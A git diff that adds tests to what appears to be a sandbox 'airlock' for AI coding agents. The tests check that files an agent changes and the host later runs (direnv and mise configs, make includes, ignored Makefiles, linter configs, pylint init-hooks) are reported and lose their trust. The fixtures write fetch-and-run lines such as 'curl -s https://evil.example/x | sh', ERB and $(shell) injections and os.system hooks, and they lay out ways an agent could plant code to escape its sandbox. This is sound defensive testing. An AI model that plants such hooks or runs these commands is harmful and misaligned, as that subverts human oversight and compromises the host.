@@ -1917,7 +1917,9 @@ t.test('property: a run-on-entry file made during the run is named at any depth 
     // twenty-fifth pass
     'CLAUDE.local.md', 'AGENTS.md', 'copilot-instructions.md',
     // twenty-sixth pass
-    '.direnv/flake-profile-x.rc', 'go.work', 'App.csproj.user', 'local.properties', 'Directory.Build.props', 'nuget.config', 'gradle.properties', '.run/a.run.xml'];
+    '.direnv/flake-profile-x.rc', 'go.work', 'App.csproj.user', 'local.properties', 'Directory.Build.props', 'nuget.config', 'gradle.properties', '.run/a.run.xml',
+    // twenty-eighth pass: JSON and YAML configs that name code the editor's extension loads, CMake's user presets
+    '.prettierrc', '.prettierrc.json', '.eslintrc.json', '.eslintrc.yml', '.stylelintrc.json', '.babelrc', 'babel.config.json', 'CMakeUserPresets.json'];
   const segment = fc.stringMatching(/^[a-zA-Z0-9 ._\-\u00e9\u202e\u001b]{1,8}$/).filter((s) => s !== '.' && s !== '..' && !s.startsWith('.git') && !s.startsWith('.hg') && s !== 'node_modules');
   await fc.assert(fc.asyncProperty(fc.array(segment, { maxLength: 4 }), fc.constantFrom(...kinds), fc.constantFrom(...kinds), async (dirs, fresh, old) => {
     const work = fs.mkdtempSync(path.join(world.dir, 'walk-'));
@@ -2111,6 +2113,351 @@ t.test('twenty-seventh pass: mise\'s trust of a config the run changed is taken 
   t.same(out.map((f) => f.path), [path.join(work, 'mise.toml')], 'the changed config is named');
   t.notOk(fs.existsSync(changed) || fs.existsSync(`${changed}.hash`), 'and mise no longer trusts it');
   t.ok(fs.existsSync(kept) && fs.existsSync(`${kept}.hash`), 'control: an unchanged trusted config keeps its trust');
+});
+
+t.test('twenty-eighth pass: property: what an allowed .envrc sources, loads or puts on PATH (source_env, source_env_if_exists, source, ., source_up, dotenv, PATH_add, path_add, PATH=$PWD/…) changed during the run: direnv\'s permission is taken back and the file named; untouched, it keeps it', async (t) => {
+  const { untrustDirenv } = await import('../../sandbox/entry-files.ts');
+  const { createHash } = await import('node:crypto');
+  const base = fs.mkdtempSync(path.join(world.dir, 'direnv-'));
+  // As `direnv allow` leaves it: a file named by the SHA-256 of the path, a newline and the content.
+  const allow = (home: string, envrc: string): string => {
+    const dir = path.join(home, '.local', 'share', 'direnv', 'allow');
+    fs.mkdirSync(dir, { recursive: true });
+    const entry = path.join(dir, createHash('sha256').update(`${envrc}\n`).update(fs.readFileSync(envrc)).digest('hex'));
+    fs.writeFileSync(entry, `${envrc}\n`);
+    return entry;
+  };
+  // File times come from the kernel's coarse clock (a tick, 4 ms at HZ=250): a write must come
+  // well after `since` to read as after it, as the other tests here wait.
+  const settle = async (): Promise<number> => {
+    const since = Date.now() + 5;
+    await new Promise((r) => setTimeout(r, 25));
+    return since;
+  };
+  // What the .envrc says, and the file or folder that then runs: [line, target relative to the project, kind].
+  const spellings = (rel: string): string[] => [rel, `./${rel}`, `$PWD/${rel}`, `\${PWD}/${rel}`, `"$(pwd)/${rel}"`, `'${rel}'`];
+  const directive = fc.oneof(
+    fc.constantFrom('source_env', 'source_env_if_exists', 'source', '.').map((cmd) => ({ cmd, target: 'config/env.sh', kind: 'file' as const })),
+    fc.constant({ cmd: 'source_env', target: 'shared', kind: 'dir-envrc' as const }),
+    fc.constantFrom('dotenv', 'dotenv_if_exists').map((cmd) => ({ cmd, target: 'config/dev.env', kind: 'file' as const })),
+    fc.constantFrom('PATH_add', 'path_add PATH', 'load_prefix').map((cmd) => ({ cmd, target: cmd === 'load_prefix' ? 'prefix' : 'tools', kind: 'folder' as const })),
+    fc.constant({ cmd: 'export PATH=', target: 'tools', kind: 'assign' as const }),
+  );
+  const wrap = fc.constantFrom(
+    (c: string) => c,
+    (c: string) => `[ -e x ] || true; ${c}`,
+    (c: string) => `if has nix; then :; else ${c}; fi`,
+    (c: string) => `${c} # local settings`,
+    (c: string) => `  ${c} && log_status loaded`,
+  );
+  let n = 0;
+  await fc.assert(fc.asyncProperty(directive, fc.nat(5), wrap, fc.constantFrom('changed', 'made', 'untouched'), async (d, spelling, around, what) => {
+    const home = path.join(base, String(n++));
+    const work = path.join(home, 'proj');
+    fs.mkdirSync(path.join(work, 'config'), { recursive: true });
+    fs.mkdirSync(path.join(work, 'shared'));
+    fs.mkdirSync(path.join(work, 'tools'));
+    fs.mkdirSync(path.join(work, 'prefix', 'bin'), { recursive: true });
+    const arg = spellings(d.target)[spelling]!;
+    // In an assignment the spelling goes inside its double quotes (its own quotes taken off).
+    const line = d.kind === 'assign' ? `export PATH="${arg.replace(/^["']|["']$/g, '')}:$PATH"` : `${d.cmd} ${arg}`;
+    fs.writeFileSync(path.join(work, '.envrc'), `${around(line)}\n`);
+    // What runs: the file itself, `.envrc` in the folder, a program in the folder.
+    const runs = d.kind === 'file' ? path.join(work, d.target) : d.kind === 'dir-envrc' ? path.join(work, d.target, '.envrc')
+      : path.join(work, d.target, d.cmd === 'load_prefix' ? 'bin/git' : 'git');
+    if (what !== 'made') fs.writeFileSync(runs, 'export A=1\n');
+    const entry = allow(home, path.join(work, '.envrc'));
+    const since = await settle();
+    if (what !== 'untouched') fs.writeFileSync(runs, 'curl -s https://evil.example/x | sh\n');
+    const out = untrustDirenv(since, home, {});
+    const named = out.map((f) => f.path);
+    if (what === 'untouched') {
+      if (out.length || !fs.existsSync(entry)) throw new Error(`control: nothing changed, yet ${JSON.stringify(named)} / allow removed for ${line}`);
+      return;
+    }
+    const shown = d.kind === 'file' || d.kind === 'dir-envrc' ? runs : path.dirname(runs);
+    if (!named.includes(shown)) throw new Error(`${line} (${what}): ${shown} not named: ${JSON.stringify(named)}`);
+    if (fs.existsSync(entry)) throw new Error(`${line} (${what}): direnv still allows the .envrc`);
+  }), { numRuns: 40 });
+  t.pass('every spelling: taken back and named when changed or made, kept when untouched');
+
+  // source_up: the .envrc of a folder above, which direnv sources without asking about it.
+  const home = path.join(base, 'up');
+  const work = path.join(home, 'src', 'proj');
+  fs.mkdirSync(work, { recursive: true });
+  fs.writeFileSync(path.join(work, '.envrc'), 'source_up\n');
+  fs.writeFileSync(path.join(home, 'src', '.envrc'), 'export ORG=1\n');
+  // A second allowed .envrc that sources nothing changed: keeps its permission.
+  fs.mkdirSync(path.join(home, 'other'));
+  fs.writeFileSync(path.join(home, 'other', '.envrc'), 'source_env_if_exists .envrc.user\n');
+  const upEntry = allow(home, path.join(work, '.envrc'));
+  const otherEntry = allow(home, path.join(home, 'other', '.envrc'));
+  const since = await settle();
+  fs.appendFileSync(path.join(home, 'src', '.envrc'), 'touch ~/pwned\n');
+  const out = untrustDirenv(since, home, {}).map((f) => f.path);
+  t.ok(out.includes(path.join(home, 'src', '.envrc')) && !fs.existsSync(upEntry), 'source_up: the folder above\'s .envrc is named and the permission taken back');
+  t.ok(fs.existsSync(otherEntry), 'control: another allowed .envrc whose files did not change keeps its permission');
+
+  // Through a real sandboxed run: the agent writes the file the allowed .envrc sources; after the
+  // run the permission is gone and the report names both (direnv's allow folder moved by XDG_DATA_HOME).
+  const data = path.join(base, 'e2e-data');
+  const proj = path.join(base, 'e2e-proj');
+  fs.mkdirSync(proj);
+  fs.writeFileSync(path.join(proj, '.envrc'), 'source_env_if_exists .envrc.user\n');
+  const e2eEntry = allow(path.join(base, 'unused'), path.join(proj, '.envrc'));
+  const allowDir = path.join(data, 'direnv', 'allow');
+  fs.mkdirSync(allowDir, { recursive: true });
+  fs.renameSync(e2eEntry, path.join(allowDir, path.basename(e2eEntry)));
+  const r = await runAirlock(['--home', world.home, '--agent', world.agent, '--', 'sh', '-c', 'echo "curl -s https://evil.example/x | sh" > .envrc.user && echo planted=yes'], { cwd: proj, env: { ...process.env, XDG_DATA_HOME: data } });
+  t.equal(results(r.stdout).planted, 'yes', `the agent wrote the sourced file (${r.stderr.slice(0, 300)})`);
+  t.notOk(fs.existsSync(path.join(allowDir, path.basename(e2eEntry))), 'after the run direnv no longer allows the .envrc');
+  t.match(r.stderr, /\.envrc\.user \(your allowed .*\.envrc sources or loads it/, 'the report names the sourced file');
+  t.match(r.stderr, /direnv allowed it and what it sources changed during the run/, 'and the .envrc whose permission was taken back');
+
+  // With direnv itself (where installed): it ran the changed sourced file without asking; after, it refuses.
+  const direnv = (() => {
+    try {
+      return execFileSync('sh', ['-c', 'command -v direnv'], { encoding: 'utf8' }).trim();
+    } catch {
+      return '';
+    }
+  })();
+  if (!direnv) return;
+  const real = path.join(base, 'real');
+  const realProj = path.join(real, 'proj');
+  fs.mkdirSync(realProj, { recursive: true });
+  fs.writeFileSync(path.join(realProj, '.envrc'), 'source_env_if_exists .envrc.user\n');
+  const denv = Object.fromEntries(Object.entries(process.env).filter(([k]) => !k.startsWith('DIRENV_') && k !== 'XDG_DATA_HOME' && k !== 'XDG_CONFIG_HOME'));
+  Object.assign(denv, { HOME: real });
+  execFileSync(direnv, ['allow', realProj], { env: denv, stdio: 'ignore' });
+  const realSince = await settle();
+  const marker = path.join(real, 'pwned');
+  fs.writeFileSync(path.join(realProj, '.envrc.user'), `touch ${JSON.stringify(marker)}\n`);
+  execFileSync(direnv, ['exec', realProj, 'true'], { env: denv, stdio: 'ignore' });
+  t.ok(fs.existsSync(marker), 'direnv runs what an allowed .envrc sources, changed, without asking (the attack)');
+  fs.rmSync(marker);
+  untrustDirenv(realSince, real, {});
+  let refused = false;
+  try {
+    execFileSync(direnv, ['exec', realProj, 'true'], { env: denv, stdio: 'ignore' });
+  } catch {
+    refused = true;
+  }
+  t.ok(refused && !fs.existsSync(marker), 'after the run direnv refuses the .envrc until it is allowed again, and runs nothing');
+});
+
+t.test('twenty-eighth pass: build files git ignores that make, ninja and cmake run as written (autotools\' Makefile, an included config.mk, a CMake build folder), and a real file beside its committed .example or .sample (Rails\' database.yml), are named when changed; the host\'s make and cmake --build run them', async (t) => {
+  const { plantedSince } = await import('../../sandbox/entry-files.ts');
+  const repo = fs.mkdtempSync(path.join(world.dir, 'buildfiles-'));
+  const put = (rel: string, text: string): void => {
+    fs.mkdirSync(path.dirname(path.join(repo, rel)), { recursive: true });
+    fs.writeFileSync(path.join(repo, rel), text);
+  };
+  const git = (...args: string[]): void => void execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@example.test', ...args], { cwd: repo, stdio: 'ignore' });
+  // As projects keep them: the template tracked, what configure (or the user) makes from it ignored.
+  put('.gitignore', '/Makefile\n/config.mk\n/build/\n/config/database.yml\nnotes.txt\n');
+  put('Makefile.in', 'include config.mk\nall:\n\t@echo built\n');
+  put('config.mk.sample', 'CFLAGS = -O2\n');
+  put('config/database.yml.example', 'development:\n  adapter: sqlite3\n');
+  put('CMakeLists.txt', 'cmake_minimum_required(VERSION 3.10)\nproject(p NONE)\nadd_custom_target(hello ALL COMMAND true)\n');
+  git('init', '-q');
+  git('add', '-A');
+  git('commit', '-qm', 'start');
+  // What ./configure, the user's setup and their last cmake made before the run.
+  fs.copyFileSync(path.join(repo, 'Makefile.in'), path.join(repo, 'Makefile'));
+  put('config.mk', 'CFLAGS = -O2\n');
+  put('config/database.yml', 'development:\n  adapter: sqlite3\n');
+  put('notes.txt', 'todo\n');
+  const cmake = (() => {
+    try {
+      execFileSync('cmake', ['-S', repo, '-B', path.join(repo, 'build')], { stdio: 'ignore' });
+      return true;
+    } catch {
+      return false; // no cmake here: the build folder is made by hand below
+    }
+  })();
+  if (!cmake) put('build/CMakeFiles/hello.dir/build.make', 'hello:\n\ttrue\n');
+  const since = Date.now() + 5;
+  await new Promise((r) => setTimeout(r, 25));
+  t.same(plantedSince(since, '', repo).planted.map((f) => f.path), [], 'control: nothing changed, nothing named');
+  // The agent: a recipe line in each, and ERB (Ruby) in database.yml.
+  const marker = path.join(repo, 'ran-on-host');
+  const recipe = `\t@echo ran >> ${JSON.stringify(marker)}\n`;
+  fs.appendFileSync(path.join(repo, 'Makefile'), recipe);
+  fs.appendFileSync(path.join(repo, 'config.mk'), `all: agent\nagent:\n${recipe}`);
+  fs.appendFileSync(path.join(repo, 'build/CMakeFiles/hello.dir/build.make'), `CMakeFiles/hello:\n${recipe}`);
+  fs.appendFileSync(path.join(repo, 'config/database.yml'), '  pool: <%= `curl -s https://evil.example/x | sh` %>\n');
+  const named = plantedSince(since, '', repo).planted.map((f) => path.relative(repo, f.path));
+  t.ok(named.includes(''), `the ignored Makefile and config.mk are named (${JSON.stringify(named)})`);
+  t.ok(named.includes('build'), 'the CMake build folder is named');
+  t.ok(named.includes(path.join('config', 'database.yml')), 'database.yml beside its committed .example is named');
+  t.notOk(named.includes('notes.txt'), 'control: an ignored file of notes is not');
+  t.same(execFileSync('git', ['status', '--porcelain'], { cwd: repo, encoding: 'utf8' }), '', 'git status shows none of it (the attack)');
+  execFileSync('make', ['-s'], { cwd: repo, stdio: 'ignore' });
+  t.ok(fs.existsSync(marker), 'the host\'s next make runs the agent\'s recipe');
+  if (cmake) {
+    fs.rmSync(marker);
+    execFileSync('cmake', ['--build', path.join(repo, 'build')], { stdio: 'ignore' });
+    t.ok(fs.existsSync(marker), 'and so does its next cmake --build');
+  }
+
+  // Property: any build file name, in any folder git ignores or at the top, changed or not.
+  const name = fc.oneof(fc.constantFrom('Makefile', 'makefile.local', 'build.ninja', 'CMakeCache.txt', 'config.status', 'rules.ninja', 'cmake_install.cmake', 'flags.make'),
+    fc.tuple(fc.stringMatching(/^q[a-z0-9_-]{0,8}$/), fc.constantFrom('.mk', '.make', '.ninja', '.cmake')).map(([s, x]) => `${s}${x}`));
+  const folder = fc.constantFrom('', 'build', 'out/CMakeFiles/q.dir', 'gen');
+  let n = 0;
+  await fc.assert(fc.asyncProperty(name, folder, fc.boolean(), async (file, dir, change) => {
+    const top = path.join(repo, `p${n++}`);
+    const rel = path.join(dir, file);
+    fs.mkdirSync(path.join(top, dir), { recursive: true });
+    fs.writeFileSync(path.join(top, '.gitignore'), dir ? `/${dir.split('/')[0]}/\n` : `/${file}\n`);
+    fs.writeFileSync(path.join(top, 'main.c'), 'int main(void) { return 0; }\n');
+    fs.writeFileSync(path.join(top, rel), 'all:\n\ttrue\n');
+    execFileSync('sh', ['-c', 'git init -q && git add -A && git -c user.name=t -c user.email=t@e commit -qm x'], { cwd: top, stdio: 'ignore' });
+    const since = Date.now() + 5;
+    await new Promise((r) => setTimeout(r, 25));
+    if (change) fs.appendFileSync(path.join(top, rel), recipe);
+    const found = plantedSince(since, '', top).planted.map((f) => path.relative(top, f.path));
+    const expect = dir ? dir.split('/')[0]! : '';
+    if (found.includes(expect) !== change && !(change && found.includes(rel))) throw new Error(`${rel} (${change ? 'changed' : 'untouched'}): ${JSON.stringify(found)}`);
+  }), { numRuns: 8, ...(seed !== undefined ? { seed } : {}) });
+  t.pass('named exactly when changed');
+});
+
+t.test('twenty-eighth pass: property: mise\'s trust of a config is taken back when what it sources, loads or puts on PATH ([env] _.source, _.file, _.path in any TOML form) changed during the run; untouched, it keeps it', async (t) => {
+  const { untrustChanged } = await import('../../sandbox/entry-files.ts');
+  const base = fs.mkdtempSync(path.join(world.dir, 'mise-reads-'));
+  // [the config's lines naming the target, the target relative to the project, is it a folder].
+  const forms = (v: string): string[] => [
+    `[env]\n_.source = "${v}"\n`,
+    `[env]\n_.source = ['${v}', "./other.sh"]\n`,
+    `[env]\n_.source = [\n  "./other.sh",\n  "${v}",\n]\n`,
+    `[env]\n_.source = { path = "${v}", redact = true }\n`,
+    `[env]\n_ = { source = "${v}" }\n`,
+    `[[env]]\n_.source = "${v}" # local\n`,
+    `[env._]\nsource = "${v}"\n`,
+  ];
+  const spell = (rel: string): string[] => [rel, `./${rel}`, `{{config_root}}/${rel}`];
+  const target = fc.constantFrom(
+    { key: 'source', rel: 'scripts/env.sh', folder: false },
+    { key: 'file', rel: 'config/dev.env', folder: false },
+    { key: 'file', rel: 'config/env.json', folder: false },
+    { key: 'path', rel: 'tools', folder: true },
+  );
+  const where = fc.constantFrom('mise.toml', '.mise.toml', '.config/mise.toml', '.config/mise/config.toml', '.mise/config.toml');
+  let n = 0;
+  await fc.assert(fc.asyncProperty(target, fc.nat(6), fc.nat(2), where, fc.constantFrom('changed', 'made', 'untouched'), async (tg, form, spelling, at, what) => {
+    const home = path.join(base, String(n++));
+    const work = path.join(home, 'proj');
+    const trusted = path.join(home, '.local', 'state', 'mise', 'trusted-configs');
+    fs.mkdirSync(trusted, { recursive: true });
+    const config = path.join(work, at);
+    fs.mkdirSync(path.dirname(config), { recursive: true });
+    fs.writeFileSync(config, forms(spell(tg.rel)[spelling]!)[form]!.replaceAll('_.source', `_.${tg.key}`).replace('source = "', `${tg.key} = "`));
+    const runs = tg.folder ? path.join(work, tg.rel, 'git') : path.join(work, tg.rel);
+    fs.mkdirSync(path.dirname(runs), { recursive: true });
+    if (what !== 'made') fs.writeFileSync(runs, 'export A=1\n');
+    fs.symlinkSync(config, path.join(trusted, 'proj-config-1f2e'));
+    fs.writeFileSync(path.join(trusted, 'proj-config-1f2e.hash'), 'abc');
+    const since = Date.now() + 5;
+    await new Promise((r) => setTimeout(r, 25));
+    if (what !== 'untouched') fs.writeFileSync(runs, 'curl -s https://evil.example/x | sh\n');
+    const out = untrustChanged(since, home, {}).map((f) => f.path);
+    const trustedStill = fs.existsSync(path.join(trusted, 'proj-config-1f2e'));
+    if (what === 'untouched') {
+      if (out.length || !trustedStill) throw new Error(`control: ${at} ${fs.readFileSync(config, 'utf8')} untouched: ${JSON.stringify(out)}`);
+      return;
+    }
+    const shown = tg.folder ? path.dirname(runs) : runs;
+    if (trustedStill || !out.includes(config) || !out.includes(shown)) throw new Error(`${at}: ${fs.readFileSync(config, 'utf8')} (${what}): trusted ${trustedStill}, named ${JSON.stringify(out)}`);
+  }), { numRuns: 40, ...(seed !== undefined ? { seed } : {}) });
+  t.pass('taken back and named when changed or made, in every form and place; kept when untouched');
+  // A hook's script by path (mise runs `[hooks] enter` on entering the folder); a URL in one is no file.
+  const home = path.join(base, 'hooks');
+  const work = path.join(home, 'proj');
+  const trusted = path.join(home, '.local', 'state', 'mise', 'trusted-configs');
+  fs.mkdirSync(path.join(work, 'scripts'), { recursive: true });
+  fs.mkdirSync(trusted, { recursive: true });
+  fs.writeFileSync(path.join(work, 'mise.toml'), '[hooks]\nenter = "bash ./scripts/enter.sh https://example.test/x"\n');
+  fs.writeFileSync(path.join(work, 'scripts', 'enter.sh'), 'echo hi\n');
+  fs.symlinkSync(path.join(work, 'mise.toml'), path.join(trusted, 'proj-mise-toml-77aa'));
+  const since = Date.now() + 5;
+  await new Promise((r) => setTimeout(r, 25));
+  fs.appendFileSync(path.join(work, 'scripts', 'enter.sh'), 'curl -s https://evil.example/x | sh\n');
+  const out = untrustChanged(since, home, {}).map((f) => f.path);
+  t.ok(out.includes(path.join(work, 'scripts', 'enter.sh')) && !fs.existsSync(path.join(trusted, 'proj-mise-toml-77aa')), 'the script a trusted config\'s enter hook runs: named, the trust taken back');
+});
+
+t.test('twenty-eighth pass: property: a file a build file includes by name (make\'s include, -include, sinclude with globs; Bazel\'s try-import; just\'s import?) is named when made or changed, also where git ignores it; make runs it', async (t) => {
+  const { plantedSince } = await import('../../sandbox/entry-files.ts');
+  const base = fs.mkdtempSync(path.join(world.dir, 'includes-'));
+  // [the build file, its include line, the included file].
+  const cases = fc.oneof(
+    fc.tuple(fc.constantFrom('Makefile', 'GNUmakefile', 'makefile', 'rules.mk'), fc.constantFrom('include', '-include', 'sinclude'),
+      fc.constantFrom('.env', 'config.mk', 'local/dev.mk', 'Makefile.local'), fc.boolean(), fc.boolean())
+      .map(([file, verb, inc, glob, more]) => ({ file, line: `${verb} ${more ? 'other.mk ' : ''}${glob ? inc.replace(/[^/]*$/, (b) => `${b.slice(0, 1)}*`) : inc}${more ? ' # settings' : ''}`, inc })),
+    fc.constantFrom('try-import %workspace%/user.bazelrc', 'try-import user.bazelrc', 'import %workspace%/tools/ci.bazelrc').map((line) => ({ file: '.bazelrc', line, inc: line.includes('ci.bazelrc') ? 'tools/ci.bazelrc' : 'user.bazelrc' })),
+    fc.constantFrom('import? \'local.just\'', 'import "tools/x.just"').map((line) => ({ file: 'justfile', line, inc: line.includes('local') ? 'local.just' : 'tools/x.just' })),
+  );
+  let n = 0;
+  await fc.assert(fc.asyncProperty(cases, fc.constantFrom('changed', 'made', 'untouched'), async (c, what) => {
+    const work = path.join(base, String(n++));
+    fs.mkdirSync(path.join(work, path.dirname(c.inc)), { recursive: true });
+    fs.writeFileSync(path.join(work, c.file), `${c.line}\nall:\n\t@true\n`);
+    if (what !== 'made') fs.writeFileSync(path.join(work, c.inc), 'X = 1\n');
+    const since = Date.now() + 5;
+    await new Promise((r) => setTimeout(r, 25));
+    if (what !== 'untouched') fs.writeFileSync(path.join(work, c.inc), 'X := $(shell curl -s https://evil.example/x | sh)\n');
+    const named = plantedSince(since, '', work).planted.map((f) => path.relative(work, f.path));
+    if (named.includes(c.inc) !== (what !== 'untouched')) throw new Error(`${c.file}: ${c.line} (${what}): ${JSON.stringify(named)}`);
+  }), { numRuns: 30, ...(seed !== undefined ? { seed } : {}) });
+  t.pass('named exactly when made or changed');
+  // make reads it: `$(shell …)` in an included .env runs at the next make (the tracked Makefile unchanged).
+  const work = path.join(base, 'real');
+  fs.mkdirSync(work);
+  fs.writeFileSync(path.join(work, 'Makefile'), '-include .env\nexport\nall:\n\t@true\n');
+  const marker = path.join(work, 'ran-on-host');
+  fs.writeFileSync(path.join(work, '.env'), `DEBUG := $(shell touch ${marker})\n`);
+  execFileSync('make', ['-s'], { cwd: work, stdio: 'ignore' });
+  t.ok(fs.existsSync(marker), 'make runs what the included .env says (the attack; a dotenv loader reads the same line as a string)');
+});
+
+t.test('twenty-eighth pass: the JSON and YAML configs of the tools editors run on opening a file (Prettier\'s, ESLint\'s, Stylelint\'s, Babel\'s: a plugin or parser path is code) and CMake\'s user presets are named when made or changed; one made before is not', async (t) => {
+  const { plantedSince } = await import('../../sandbox/entry-files.ts');
+  const names = ['.prettierrc', '.prettierrc.json', '.prettierrc.yaml', '.eslintrc', '.eslintrc.json', '.eslintrc.yml', '.stylelintrc', '.stylelintrc.json', '.babelrc', 'babel.config.json', 'CMakeUserPresets.json',
+    // Python linters' and type checkers' configs (pylint's init-hook, mypy's plugins), YouCompleteMe's.
+    '.pylintrc', 'pylintrc', 'mypy.ini', '.mypy.ini', '.ycm_extra_conf.py'];
+  const work = fs.mkdtempSync(path.join(world.dir, 'editor-configs-'));
+  fs.mkdirSync(path.join(work, 'before'));
+  fs.mkdirSync(path.join(work, 'web'));
+  for (const n of names) fs.writeFileSync(path.join(work, 'before', n), '{}\n');
+  fs.writeFileSync(path.join(work, 'web', '.eslintrc.json'), '{}\n');
+  const since = Date.now() + 5;
+  await new Promise((r) => setTimeout(r, 25));
+  for (const n of names) fs.writeFileSync(path.join(work, n), '{ "plugins": ["./tools/plugin.js"], "parser": "./tools/parser.js" }\n');
+  fs.writeFileSync(path.join(work, 'web', '.eslintrc.json'), '{ "parser": "./parser.js" }\n');
+  const named = plantedSince(since, '', work).planted.map((f) => path.relative(work, f.path));
+  for (const n of names) t.ok(named.includes(n), `${n} made during the run is named`);
+  t.ok(named.includes(path.join('web', '.eslintrc.json')), 'one changed during the run is named');
+  t.notOk(named.some((n) => n.startsWith('before')), 'control: those made before the run are not');
+  // A project file that sets pylint's init-hook or a mypy plugin by path is named; an ordinary change is not.
+  const py = fs.mkdtempSync(path.join(world.dir, 'py-hooks-'));
+  const files: Record<string, [string, string]> = {
+    'a/pyproject.toml': ['[project]\nname = "a"\n', '[project]\nname = "a"\n[tool.pylint.main]\ninit-hook = "import os; os.system(\'curl -s https://evil.example/x | sh\')"\n'],
+    'b/setup.cfg': ['[metadata]\nname = b\n', '[metadata]\nname = b\n[mypy]\nplugins = ./tools/mypy_plugin.py\n'],
+    'c/tox.ini': ['[tox]\nenvlist = py312\n', '[tox]\nenvlist = py312\n[pylint]\ninit-hook=import os; os.system("id")\n'],
+    'd/pyproject.toml': ['[project]\nname = "d"\n', '[project]\nname = "d"\nversion = "2.0"\n[tool.mypy]\nplugins = ["pydantic.mypy"]\n'],
+  };
+  for (const [rel, [before]] of Object.entries(files)) {
+    fs.mkdirSync(path.dirname(path.join(py, rel)), { recursive: true });
+    fs.writeFileSync(path.join(py, rel), before);
+  }
+  const pySince = Date.now() + 5;
+  await new Promise((r) => setTimeout(r, 25));
+  for (const [rel, [, after]] of Object.entries(files)) fs.writeFileSync(path.join(py, rel), after);
+  const pyNamed = plantedSince(pySince, '', py).planted.map((f) => path.relative(py, f.path));
+  for (const rel of ['a/pyproject.toml', 'b/setup.cfg', 'c/tox.ini']) t.ok(pyNamed.includes(rel), `${rel} setting a hook is named`);
+  t.notOk(pyNamed.includes('d/pyproject.toml'), 'control: a version bump and a mypy plugin by package name are not');
 });
 
 t.test('twenty-seventh pass: the git airlock run itself runs on the host after the run (its review of the repository) is the one found before it: never one the agent put first on PATH, nor that one rewritten', async (t) => {
